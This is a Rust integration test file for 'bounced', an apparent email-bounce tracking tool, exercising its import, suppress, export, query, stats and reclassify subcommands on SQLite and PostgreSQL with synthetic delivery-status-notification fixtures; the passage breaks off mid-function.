//! The database subcommands end to end: the real binary on a SQLite file in a temp dir, and the
//! store's commands again on PostgreSQL when it is available.

mod common;

use std::cell::RefCell;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output};

const DSN: &str = "From: Mail Delivery System <mailer-daemon@mx.example.org>\n\
To: news-bounces@example.org\n\
Subject: Undelivered Mail Returned to Sender\n\
Message-ID: <dsn-NUM@mx.example.org>\n\
MIME-Version: 1.0\n\
Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\n\
\n\
--b1\n\
Content-Type: text/plain\n\
\n\
I could not deliver your message.\n\
--b1\n\
Content-Type: message/delivery-status\n\
\n\
Reporting-MTA: dns; mx.example.org\n\
\n\
Final-Recipient: rfc822; user-NUM@example.net\n\
Action: failed\n\
Status: 5.1.1\n\
Diagnostic-Code: smtp; 550 5.1.1 <user-NUM@example.net>: Recipient address rejected: User unknown\n\
--b1--\n";

fn dsn(n: u32) -> String {
    DSN.replace("NUM", &n.to_string())
}

thread_local! {
    /// The PostgreSQL database of the engine the current test runs on; `None` on SQLite.
    static ON: RefCell<Option<String>> = const { RefCell::new(None) };
}

/// Runs `body` once per engine; on PostgreSQL every `bounced` the test starts uses its database,
/// through `BOUNCED_DB` (or `--db` with [`target`]).
fn each_engine(test: &str, mut body: impl FnMut(&common::engines::Engine)) {
    for engine in common::engines::all(test) {
        eprintln!("{test}: {}", engine.name);
        let url = engine
            .is_postgres()
            .then(|| engine.location.display().to_string());
        ON.with(|on| *on.borrow_mut() = url);
        body(&engine);
        ON.with(|on| *on.borrow_mut() = None);
    }
}

/// The database a test names: the file on SQLite, the engine's database on PostgreSQL.
fn target(file: &str) -> String {
    ON.with(|on| on.borrow().clone().unwrap_or_else(|| file.to_owned()))
}

/// Points `c` at the current engine's database: PostgreSQL's when there is one, else nothing set.
fn engine_env(c: &mut Command) -> &mut Command {
    match ON.with(|on| on.borrow().clone()) {
        Some(url) => c.env("BOUNCED_DB", url),
        None => c.env_remove("BOUNCED_DB"),
    }
}

fn bounced(dir: &Path, args: &[&str]) -> Output {
    engine_env(&mut Command::new(env!("CARGO_BIN_EXE_bounced")))
        .args(args)
        .current_dir(dir)
        .env_remove("BOUNCED_CONFIG")
        .env_remove("RUST_LOG")
        .output()
        .unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stdout(o)))
}

/// A folder with a Maildir (new/ and cur/), an mbox of two messages, a plain file, an empty file and
/// a hidden file that must be skipped.
fn inputs(dir: &Path) {
    let md = dir.join("in/Maildir");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(md.join(sub)).unwrap();
    }
    std::fs::write(md.join("new/1.host"), dsn(1)).unwrap();
    std::fs::write(md.join("cur/2.host:2,S"), dsn(2)).unwrap();
    std::fs::write(md.join("tmp/partial"), dsn(9)).unwrap();
    let mbox = format!(
        "From mailer-daemon@mx.example.org Mon Mar  2 09:00:00 2026\n{}\nFrom mailer-daemon@mx.example.org Tue Mar  3 09:00:00 2026\n{}",
        dsn(3),
        dsn(4).replace("I could not", ">From here I could not")
    );
    std::fs::write(dir.join("in/bounces.mbox"), mbox).unwrap();
    std::fs::create_dir_all(dir.join("in/more")).unwrap();
    std::fs::write(dir.join("in/more/5.eml"), dsn(5)).unwrap();
    std::fs::write(dir.join("in/more/empty.eml"), "").unwrap();
    std::fs::write(dir.join("in/more/.hidden.eml"), dsn(6)).unwrap();
}

#[test]
fn import_records_each_message_once() {
    each_engine("import_records_each_message_once", |engine| {
        let dir = tempfile::tempdir().unwrap();
        inputs(dir.path());
        let first = bounced(dir.path(), &["import", "in", "--json"]);
        assert!(first.status.success(), "{}", stderr(&first));
        let s = json(&first);
        assert_eq!(s["messages"], 6, "{s}");
        assert_eq!(s["new"], 6, "{s}");
        assert_eq!(s["duplicates"], 0, "{s}");
        assert_eq!(s["errors"], 1, "the empty file: {s}");
        assert!(engine.is_postgres() || dir.path().join("bounced.db").exists());

        let again = bounced(dir.path(), &["import", "in", "--json"]);
        assert!(again.status.success(), "{}", stderr(&again));
        let s = json(&again);
        assert_eq!(s["new"], 0, "{s}");
        assert_eq!(s["duplicates"], 6, "{s}");

        let stats = bounced(dir.path(), &["stats", "--format", "jsonl"]);
        assert!(stats.status.success(), "{}", stderr(&stats));
        assert_eq!(json(&stats)["messages"], 6);

        let list = bounced(dir.path(), &["stats", "--format", "csv"]);
        assert!(
            stdout(&list).starts_with("group,key,count\nmessages,total,6\n"),
            "{}",
            stdout(&list)
        );
    });
}

#[test]
fn import_summary_as_text_and_a_missing_input_exit_1() {
    let dir = tempfile::tempdir().unwrap();
    inputs(dir.path());
    let out = bounced(dir.path(), &["import", "in/more/5.eml", "no-such-file"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("messages     1\n"),
        "{}",
        stdout(&out)
    );
    assert!(stderr(&out).contains("no-such-file"), "{}", stderr(&out));
}

#[test]
fn suppress_export_query_unsuppress() {
    each_engine("suppress_export_query_unsuppress", |_engine| {
        let dir = tempfile::tempdir().unwrap();
        let db = target(dir.path().join("lists.db").to_str().unwrap());
        let db = db.as_str();
        let out = bounced(
            dir.path(),
            &[
                "suppress",
                "Pat@Example.COM",
                "--reason",
                "asked by phone",
                "--db",
                db,
            ],
        );
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(stdout(&out), "Pat@example.com suppressed\n");

        let txt = bounced(dir.path(), &["export", "--db", db]);
        assert!(txt.status.success(), "{}", stderr(&txt));
        assert_eq!(stdout(&txt), "Pat@example.com\n");

        let hard_only = bounced(
            dir.path(),
            &["export", "--db", db, "--types", "hard", "--format", "ses"],
        );
        assert_eq!(stdout(&hard_only), "");

        let file = dir.path().join("out/list.csv");
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        let out = bounced(
            dir.path(),
            &[
                "export",
                "--db",
                db,
                "--format",
                "postfix",
                "-o",
                file.to_str().unwrap(),
            ],
        );
        assert!(out.status.success(), "{}", stderr(&out));
        assert_eq!(stdout(&out), "");
        assert_eq!(
            std::fs::read_to_string(&file).unwrap(),
            "Pat@example.com REJECT 5.7.1 Recipient address suppressed by the operator\n"
        );
        let mode = std::fs::metadata(&file).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o640);
        let leftovers: Vec<_> = std::fs::read_dir(file.parent().unwrap()).unwrap().collect();
        assert_eq!(leftovers.len(), 1, "no temporary file is left behind");

        // Lookup ignores the case of the local part when only one address matches.
        let q = bounced(
            dir.path(),
            &[
                "query",
                "recipient",
                "pat@example.com",
                "--db",
                db,
                "--format",
                "jsonl",
            ],
        );
        assert!(q.status.success(), "{}", stderr(&q));
        let v = json(&q);
        assert_eq!(v["recipient"]["state"], "suppressed");
        assert_eq!(v["history"][0]["cause"], "manual");
        assert_eq!(v["history"][0]["note"], "asked by phone");

        let table = bounced(
            dir.path(),
            &["query", "recipient", "Pat@example.com", "--db", db],
        );
        assert!(
            stdout(&table).contains("state        suppressed"),
            "{}",
            stdout(&table)
        );

        let out = bounced(dir.path(), &["unsuppress", "Pat@example.com", "--db", db]);
        assert!(out.status.success(), "{}", stderr(&out));
        let txt = bounced(dir.path(), &["export", "--db", db, "--format", "txt"]);
        assert_eq!(stdout(&txt), "");

        let unknown = bounced(
            dir.path(),
            &["query", "recipient", "nobody@example.com", "--db", db],
        );
        assert_eq!(unknown.status.code(), Some(1));
        let unknown = bounced(
            dir.path(),
            &["unsuppress", "nobody@example.com", "--db", db],
        );
        assert_eq!(unknown.status.code(), Some(1));
    });
}

#[test]
fn query_bounces_and_stats_in_every_format() {
    each_engine("query_bounces_and_stats_in_every_format", |_engine| {
        let dir = tempfile::tempdir().unwrap();
        inputs(dir.path());
        assert!(bounced(dir.path(), &["import", "in"]).status.success());
        let csv = bounced(
            dir.path(),
            &[
                "query",
                "bounces",
                "--format",
                "csv",
                "--since",
                "2000-01-01",
            ],
        );
        assert!(csv.status.success(), "{}", stderr(&csv));
        assert!(
            stdout(&csv).starts_with(
                "at,recipient,type,reason,status,replycode,rule,source,verp_mismatch,diagnostic\n"
            ),
            "{}",
            stdout(&csv)
        );
        for by in ["reason", "domain", "type", "day"] {
            for format in ["table", "jsonl", "csv"] {
                let out = bounced(dir.path(), &["stats", "--by", by, "--format", format]);
                assert!(out.status.success(), "{by} {format}: {}", stderr(&out));
            }
        }
        let rc = bounced(dir.path(), &["reclassify", "--format", "jsonl"]);
        assert!(rc.status.success(), "{}", stderr(&rc));
        let v = json(&rc);
        assert_eq!(v["messages"], 6);
        assert_eq!(v["changed"], 0, "the same rules change nothing: {v}");
    });
}

#[test]
fn a_file_that_is_not_a_database_is_named_in_the_error() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("notes.db"),
        "these are my notes, not a database\n".repeat(200),
    )
    .unwrap();
    let out = bounced(dir.path(), &["stats", "--db", "notes.db"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("notes.db"), "{err}");
    assert!(err.contains("not a bounced database"), "{err}");
}

#[test]
fn readers_do_not_create_a_database() {
    let dir = tempfile::tempdir().unwrap();
    let out = bounced(dir.path(), &["export"]);
    assert!(!out.status.success());
    assert!(
        // Named with its absolute path, as every path is resolved at start.
        stderr(&out).contains("no bounce database at /")
            && stderr(&out).contains("/bounced.db: run `bounced import` first"),
        "{}",
        stderr(&out)
    );
    assert!(!dir.path().join("bounced.db").exists());
}

#[test]
fn the_config_file_names_the_database_and_bad_keys_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("b.toml"),
        "[store]\npath = \"from-config.db\"\n",
    )
    .unwrap();
    let out = bounced(
        dir.path(),
        &["suppress", "a@example.com", "--config", "b.toml"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(dir.path().join("from-config.db").exists());

    std::fs::write(
        dir.path().join("bad.toml"),
        "[policy]\nsoft_threshold = 0\n",
    )
    .unwrap();
    let out = bounced(dir.path(), &["stats", "--config", "bad.toml"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("policy.soft_threshold"),
        "{}",
        stderr(&out)
    );
}

/// Makes a file read-only for this process and undoes it when dropped: mode 0444, and for root
/// (whom modes do not stop) the immutable attribute. `None` when neither stops a write here.
struct ReadOnly<'a>(&'a Path, bool);

impl<'a> ReadOnly<'a> {
    fn make(file: &'a Path) -> Option<ReadOnly<'a>> {
        let writable = || std::fs::OpenOptions::new().write(true).open(file).is_ok();
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o444)).ok()?;
        if !writable() {
            return Some(ReadOnly(file, false));
        }
        let immutable = Command::new("chattr")
            .arg("+i")
            .arg(file)
            .status()
            .is_ok_and(|s| s.success());
        let guard = ReadOnly(file, immutable);
        (immutable && !writable()).then_some(guard)
    }
}

impl Drop for ReadOnly<'_> {
    fn drop(&mut self) {
        if self.1 {
            let _ = Command::new("chattr").arg("-i").arg(self.0).status();
        }
        let _ = std::fs::set_permissions(self.0, std::fs::Permissions::from_mode(0o644));
    }
}

#[test]
fn a_read_only_database_is_named_readers_still_work_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    inputs(dir.path());
    let out = bounced(dir.path(), &["suppress", "kept@example.com"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let db = dir.path().join("bounced.db");
    let Some(_guard) = ReadOnly::make(&db) else {
        // Root without the immutable attribute: the error mapping is still covered by the unit
        // test in src/store/error.rs, on a connection opened read-only.
        // Straight to the stream: the harness captures `eprintln!`, and a skip must show.
        use std::io::Write;
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED a_read_only_database_is_named_readers_still_work_and_nothing_is_written: \
             this user can write any file and `chattr +i` is not available"
        );
        return;
    };
    for args in [
        &["import", "in"][..],
        &["suppress", "new@example.com"][..],
        &["unsuppress", "kept@example.com"][..],
    ] {
        let out = bounced(dir.path(), args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains("/bounced.db is read-only"), "{args:?}: {err}");
    }
    let out = bounced(dir.path(), &["export"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), "kept@example.com\n");
    let stats = bounced(dir.path(), &["stats", "--format", "jsonl"]);
    assert!(stats.status.success(), "{}", stderr(&stats));
    let s = json(&stats);
    assert_eq!(
        (&s["messages"], &s["recipients"]),
        (&0.into(), &1.into()),
        "{s}"
    );
}

#[test]
fn processes_started_at_once_on_a_new_database_all_succeed() {
    let test = "processes_started_at_once_on_a_new_database_all_succeed";
    for kind in common::engines::kinds(test) {
        eprintln!("{test}: {kind:?}");
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("one.eml"), dsn(1)).unwrap();
        for round in 0..10 {
            // On PostgreSQL a new empty database each round: the migrations race too.
            let engine = kind.fresh(test);
            let db = if engine.is_postgres() {
                engine.location.display().to_string()
            } else {
                format!("race-{round}.db")
            };
            let children: Vec<_> = (0..6)
                .map(|i| {
                    let mut c = Command::new(env!("CARGO_BIN_EXE_bounced"));
                    c.current_dir(dir.path())
                        .env_remove("BOUNCED_DB")
                        .env_remove("BOUNCED_CONFIG")
                        .env_remove("RUST_LOG")
                        .stdout(std::process::Stdio::null())
                        .stderr(std::process::Stdio::piped());
                    if i % 2 == 0 {
                        c.args(["import", "one.eml", "--db", &db]);
                    } else {
                        c.args(["suppress", &format!("racer{i}@example.com"), "--db", &db]);
                    }
                    c.spawn().unwrap()
                })
                .collect();
            for child in children {
                let out = child.wait_with_output().unwrap();
                assert!(
                    out.status.success(),
                    "{kind:?} round {round}: {}",
                    stderr(&out)
                );
            }
            let stats = bounced(dir.path(), &["stats", "--db", &db, "--format", "jsonl"]);
            let s = json(&stats);
            assert_eq!(s["messages"], 1, "{kind:?} round {round}: {s}");
            assert_eq!(s["recipients"], 4, "{kind:?} round {round}: {s}");
        }
    }
}

/// A DSN for `full-<n>@example.net` whose wording says the mailbox is full: a soft bounce.
fn full_mailbox(n: u32) -> String {
    DSN.replace("NUM", &n.to_string())
        .replace("user-", "full-")
        .replace("Status: 5.1.1", "Status: 4.2.2")
        .replace(
            "550 5.1.1 <full-",
            "452 4.2.2 quota of the test mailbox exceeded <full-",
        )
        .replace(">: Recipient address rejected: User unknown", ">")
}

/// A rule file that reads the mailbox-full wording of [`full_mailbox`] as an unknown user.
const FULL_IS_UNKNOWN: &str = "[[rule]]\n\
id = \"local.test-quota-is-unknown\"\n\
reason = \"userunknown\"\n\
text = ['quota of the test mailbox exceeded']\n\
note = \"a test rule\"\n";

/// `bounced db check` on `db`: its exit code and stderr.
fn db_check(dir: &Path, db: &str) -> (Option<i32>, String) {
    let out = bounced(dir, &["db", "check", "--db", &target(db)]);
    (
        out.status.code(),
        format!("{}{}", stdout(&out), stderr(&out)),
    )
}

/// 2,000 recipients with one soft bounce each, recorded; the rule file beside them.
fn two_thousand_soft(dir: &Path, db: &str) {
    let inbox = dir.join("in");
    std::fs::create_dir_all(&inbox).unwrap();
    for n in 0..2000 {
        std::fs::write(inbox.join(format!("{n}.eml")), full_mailbox(n)).unwrap();
    }
    std::fs::write(dir.join("rules.toml"), FULL_IS_UNKNOWN).unwrap();
    let out = bounced(dir, &["import", "in", "--db", db, "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let s = json(&out);
    assert_eq!(s["bounces"]["soft"], 2000, "{s}");
    let out = bounced(dir, &["stats", "--db", db, "--format", "jsonl"]);
    assert_eq!(json(&out)["suppressed"], serde_json::json!([]));
}

fn suppressed_hard(dir: &Path, db: &str) -> i64 {
    let out = bounced(dir, &["stats", "--db", db, "--format", "jsonl"]);
    let s = json(&out);
    s["suppressed"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p[0] == "hard")
        .and_then(|p| p[1].as_i64())
        .unwrap_or(0)
}

#[test]
fn reclassify_killed_mid_run_leaves_every_recipient_in_step_and_a_rerun_finishes() {
    let dir = tempfile::tempdir().unwrap();
    let db = "b.db";
    two_thousand_soft(dir.path(), db);
    let db_path = dir.path().join(db);
    let changed = || -> i64 {
        let conn = || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async {
                let opts = sqlx::sqlite::SqliteConnectOptions::new()
                    .filename(&db_path)
                    .read_only(true);
                let pool = sqlx::SqlitePool::connect_with(opts).await.ok()?;
                let n: Option<i64> =
                    sqlx::query_scalar("select count(*) from bounces where reason = 'userunknown'")
                        .fetch_one(&pool)
                        .await
                        .ok();
                pool.close().await;
                n
            })
        };
        conn().unwrap_or(0)
    };
    let mut child = Command::new(env!("CARGO_BIN_EXE_bounced"))
        .args(["reclassify", "--rules", "rules.toml", "--db", db])
        .current_dir(dir.path())
        .env_remove("BOUNCED_DB")
        .env_remove("BOUNCED_CONFIG")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    let mut seen = 0;
    while start.elapsed() < std::time::Duration::from_secs(120) {
        seen = changed();
        if seen > 0 || child.try_wait().unwrap().is_some() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let _ = child.kill();
    let status = child.wait().unwrap();
    assert!(
        seen > 0 && seen < 2000 && status.code().is_none(),
        "the kill must land mid-run: {seen} bounces changed, {status:?}"
    );
    let part = changed();
    assert!(part < 2000, "{part}");
    assert_eq!(
        suppressed_hard(dir.path(), db),
        part,
        "every bounce committed as hard has its recipient suppressed"
    );
    let (code, report) = db_check(dir.path(), db);
    assert_eq!(code, Some(0), "{report}");
    assert!(report.contains("0 differ"), "{report}");

    let out = bounced(
        dir.path(),
        &[
            "reclassify",
            "--rules",
            "rules.toml",
            "--db",
            db,
            "--format",
            "jsonl",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let v = json(&out);
    assert_eq!(v["changed"], 2000 - part, "{v}");
    assert_eq!(suppressed_hard(dir.path(), db), 2000);
    let (code, report) = db_check(dir.path(), db);
    assert_eq!(code, Some(0), "{report}");
}

#[test]
fn reclassify_stopped_by_a_lock_leaves_every_recipient_in_step() {
    let dir = tempfile::tempdir().unwrap();
    let db = "b.db";
    two_thousand_soft(dir.path(), db);
    std::fs::write(
        dir.path().join("b.toml"),
        "[store]\npath = \"b.db\"\nbusy_timeout = \"500ms\"\n",
    )
    .unwrap();
    let db_path = dir.path().join(db);
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut holder = rt.block_on(async {
        use sqlx::Connection;
        sqlx::SqliteConnection::connect(&format!("sqlite:{}", db_path.display()))
            .await
            .unwrap()
    });
    let count = |conn: &mut sqlx::SqliteConnection| -> i64 {
        rt.block_on(
            sqlx::query_scalar("select count(*) from bounces where reason = 'userunknown'")
                .fetch_one(conn),
        )
        .unwrap()
    };
    let mut child = Command::new(env!("CARGO_BIN_EXE_bounced"))
        .args(["reclassify", "--rules", "rules.toml", "--config", "b.toml"])
        .current_dir(dir.path())
        .env_remove("BOUNCED_DB")
        .env_remove("BOUNCED_CONFIG")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let start = std::time::Instant::now();
    while count(&mut holder) == 0 && start.elapsed() < std::time::Duration::from_secs(120) {
        assert!(child.try_wait().unwrap().is_none(), "finished too soon");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    rt.block_on(sqlx::query("begin immediate").execute(&mut holder))
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("is locked"), "{}", stderr(&out));
    rt.block_on(sqlx::query("rollback").execute(&mut holder))
        .unwrap();
    let part = count(&mut holder);
    assert!(part > 0 && part < 2000, "{part}");
    assert_eq!(suppressed_hard(dir.path(), db), part);
    let (code, report) = db_check(dir.path(), db);
    assert_eq!(code, Some(0), "{report}");
}

/// `bounced ARGS` with `input` on its standard input.
fn bounced_stdin(dir: &Path, args: &[&str], input: &str) -> Output {
    use std::io::Write;
    let mut child = engine_env(&mut Command::new(env!("CARGO_BIN_EXE_bounced")))
        .args(args)
        .current_dir(dir)
        .env_remove("BOUNCED_CONFIG")
        .env_remove("RUST_LOG")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

#[test]
fn stats_without_by_apply_since_and_until() {
    each_engine("stats_without_by_apply_since_and_until", |_engine| {
        let dir = tempfile::tempdir().unwrap();
        let inbox = dir.path().join("in");
        std::fs::create_dir_all(&inbox).unwrap();
        // Three failures on three days of March 2026.
        for (n, day) in [(1, 2), (2, 5), (3, 9)] {
            let text = dsn(n).replace(
                "Action: failed\n",
                &format!("Action: failed\nLast-Attempt-Date: Mon, {day} Mar 2026 10:00:00 +0000\n"),
            );
            std::fs::write(inbox.join(format!("{n}.eml")), text).unwrap();
        }
        assert!(bounced(dir.path(), &["import", "in"]).status.success());
        let all = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
        assert_eq!(all["bounces"], 3, "{all}");
        let part = bounced(
            dir.path(),
            &[
                "stats",
                "--since",
                "2026-03-04",
                "--until",
                "2026-03-08",
                "--format",
                "jsonl",
            ],
        );
        assert!(part.status.success(), "{}", stderr(&part));
        let part = json(&part);
        assert_eq!(part["bounces"], 1, "{part}");
        assert_eq!(part["recipients"], 1, "{part}");
        assert_eq!(
            part["suppressed"],
            serde_json::json!([["hard", 1]]),
            "{part}"
        );
        let table = stdout(&bounced(
            dir.path(),
            &["stats", "--since", "2026-03-08", "--format", "csv"],
        ));
        assert!(table.contains("bounces,total,1\n"), "{table}");
        assert!(table.contains("bounces,hard,1\n"), "{table}");
    });
}

#[test]
fn a_repeated_suppress_adds_no_history_and_the_default_reason_says_who() {
    each_engine(
        "a_repeated_suppress_adds_no_history_and_the_default_reason_says_who",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            for _ in 0..3 {
                let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
                assert!(out.status.success(), "{}", stderr(&out));
            }
            let out = bounced(dir.path(), &["suppress", "sam@example.com"]);
            assert_eq!(
                stdout(&out),
                "sam@example.com already suppressed by hand; nothing to do\n"
            );
            let q = json(&bounced(
                dir.path(),
                &["query", "recipient", "sam@example.com", "--format", "jsonl"],
            ));
            let history = q["history"].as_array().unwrap();
            assert_eq!(history.len(), 1, "{q}");
            assert_eq!(history[0]["note"], "suppressed by the operator");
            let table = stdout(&bounced(
                dir.path(),
                &["query", "recipient", "sam@example.com"],
            ));
            assert!(
                table.contains("(manual: suppressed by the operator)"),
                "{table}"
            );
            assert!(!table.contains("(manual: )"), "{table}");

            // Unsuppress twice: one row.
            for _ in 0..2 {
                assert!(
                    bounced(dir.path(), &["unsuppress", "sam@example.com"])
                        .status
                        .success()
                );
            }
            let q = json(&bounced(
                dir.path(),
                &["query", "recipient", "sam@example.com", "--format", "jsonl"],
            ));
            assert_eq!(q["history"].as_array().unwrap().len(), 2, "{q}");
        },
    );
}

#[test]
fn suppress_and_unsuppress_take_many_addresses_and_standard_input() {
    each_engine(
        "suppress_and_unsuppress_take_many_addresses_and_standard_input",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            let input = "# to remove\nann@example.com\n\n  bob@example.com   # asked by phone\nnot-an-address\nann@example.com\n";
            let out = bounced_stdin(
                dir.path(),
                &["suppress", "cy@example.com", "-", "--dry-run"],
                input,
            );
            assert!(!dir.path().join("bounced.db").exists() || out.status.code() == Some(1));
            // A dry run on a new database: nothing exists to read.
            assert!(!out.status.success(), "{}", stdout(&out));
            assert!(
                bounced(dir.path(), &["suppress", "first@example.com"])
                    .status
                    .success()
            );

            let out = bounced_stdin(
                dir.path(),
                &["suppress", "cy@example.com", "-", "--dry-run"],
                input,
            );
            assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
            assert_eq!(
                stdout(&out),
                "cy@example.com would be suppressed\n\
             ann@example.com would be suppressed\n\
             bob@example.com would be suppressed\n\
             not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
             ann@example.com would be suppressed\n"
            );
            assert!(
                stderr(&out).contains("1 of 5 addresses refused"),
                "{}",
                stderr(&out)
            );
            let list = stdout(&bounced(dir.path(), &["export"]));
            assert_eq!(list, "first@example.com\n", "a dry run writes nothing");

            let out = bounced_stdin(dir.path(), &["suppress", "cy@example.com", "-"], input);
            assert_eq!(out.status.code(), Some(1));
            assert_eq!(
                stdout(&out),
                "cy@example.com suppressed\n\
             ann@example.com suppressed\n\
             bob@example.com suppressed\n\
             not-an-address refused: not an email address: it has no `@` between a local part and a domain\n\
             ann@example.com already suppressed by hand; nothing to do\n"
            );
            let list = stdout(&bounced(dir.path(), &["export"]));
            assert_eq!(
                list,
                "ann@example.com\nbob@example.com\ncy@example.com\nfirst@example.com\n"
            );

            let out = bounced(
                dir.path(),
                &[
                    "unsuppress",
                    "ann@example.com",
                    "nobody@example.com",
                    "--dry-run",
                ],
            );
            assert_eq!(out.status.code(), Some(1));
            assert_eq!(
                stdout(&out),
                "ann@example.com would be unsuppressed\nnobody@example.com refused: not in the database\n"
            );
            let out = bounced_stdin(
                dir.path(),
                &["unsuppress", "-"],
                "ann@example.com\nbob@example.com\n",
            );
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(
                stdout(&out),
                "ann@example.com unsuppressed\nbob@example.com unsuppressed\n"
            );
            let list = stdout(&bounced(dir.path(), &["export"]));
            assert_eq!(list, "cy@example.com\nfirst@example.com\n");
        },
    );
}

#[test]
fn reclassify_dry_run_names_the_addresses_that_would_flip_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let inbox = dir.path().join("in");
    std::fs::create_dir_all(&inbox).unwrap();
    for n in 0..3 {
        std::fs::write(inbox.join(format!("{n}.eml")), full_mailbox(n)).unwrap();
    }
    std::fs::write(dir.path().join("rules.toml"), FULL_IS_UNKNOWN).unwrap();
    assert!(bounced(dir.path(), &["import", "in"]).status.success());
    let before = std::fs::read(dir.path().join("bounced.db")).unwrap();

    let out = bounced(
        dir.path(),
        &[
            "reclassify",
            "--rules",
            "rules.toml",
            "--dry-run",
            "--format",
            "csv",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "address,from,to\n\
         full-0@example.net,active,suppressed\n\
         full-1@example.net,active,suppressed\n\
         full-2@example.net,active,suppressed\n"
    );
    let table = stdout(&bounced(
        dir.path(),
        &["reclassify", "--rules", "rules.toml", "--dry-run"],
    ));
    assert!(table.starts_with("dry run: nothing was written"), "{table}");
    assert!(table.contains("messages changed    3\n"), "{table}");
    assert_eq!(stdout(&bounced(dir.path(), &["export"])), "");
    let (code, report) = db_check(dir.path(), "bounced.db");
    assert_eq!(code, Some(0), "{report}");
    let after = std::fs::read(dir.path().join("bounced.db")).unwrap();
    assert_eq!(before.len(), after.len());

    let out = bounced(
        dir.path(),
        &["reclassify", "--rules", "rules.toml", "--format", "csv"],
    );
    assert_eq!(
        stdout(&out),
        "address,from,to\n\
         full-0@example.net,active,suppressed\n\
         full-1@example.net,active,suppressed\n\
         full-2@example.net,active,suppressed\n"
    );
    assert_eq!(
        stdout(&bounced(dir.path(), &["export"])),
        "full-0@example.net\nfull-1@example.net\nfull-2@example.net\n"
    );
}

#[test]
fn reclassify_on_several_threads_gives_each_message_its_own_result() {
    let dir = tempfile::tempdir().unwrap();
    let inbox = dir.path().join("in");
    std::fs::create_dir_all(&inbox).unwrap();
    // More messages than one thread's share of a batch, alternating the two kinds of result.
    for n in 0..60 {
        let text = if n % 2 == 0 { full_mailbox(n) } else { dsn(n) };
        std::fs::write(inbox.join(format!("{n}.eml")), text).unwrap();
    }
    std::fs::write(dir.path().join("rules.toml"), FULL_IS_UNKNOWN).unwrap();
    let out = bounced(dir.path(), &["import", "in", "--db", "one.db"]);
    assert!(out.status.success(), "{}", stderr(&out));
    std::fs::copy(dir.path().join("one.db"), dir.path().join("many.db")).unwrap();

    let mut listed = Vec::new();
    for (db, jobs) in [("one.db", "1"), ("many.db", "3")] {
        let out = bounced(
            dir.path(),
            &[
                "reclassify",
                "--rules",
                "rules.toml",
                "--db",
                db,
                "--jobs",
                jobs,
                "--format",
                "jsonl",
            ],
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let v = json(&out);
        assert_eq!(
            (v["messages"].clone(), v["changed"].clone()),
            (60.into(), 30.into()),
            "{v}"
        );
        let out = bounced(
            dir.path(),
            &[
                "query",
                "bounces",
                "--db",
                db,
                "--format",
                "csv",
                "--since",
                "2000-01-01",
            ],
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let mut rows: Vec<String> = stdout(&out).lines().skip(1).map(str::to_string).collect();
        rows.sort();
        assert_eq!(rows.len(), 60);
        for row in &rows {
            let reason = if row.contains("full-") {
                ",hard,userunknown,"
            } else {
                ",hard,"
            };
            assert!(row.contains(reason), "{row}");
        }
        listed.push(rows);
    }
    assert_eq!(listed[0], listed[1]);
}

/// A DSN sent back to the VERP address of `subscriber` (news-bounces+local=domain@...) about
/// `about`.
fn verp_dsn(subscriber: &str, about: &str, n: u32) -> String {
    let (local, domain) = subscriber.split_once('@').unwrap();
    dsn(n)
        .replace(
            "To: news-bounces@example.org",
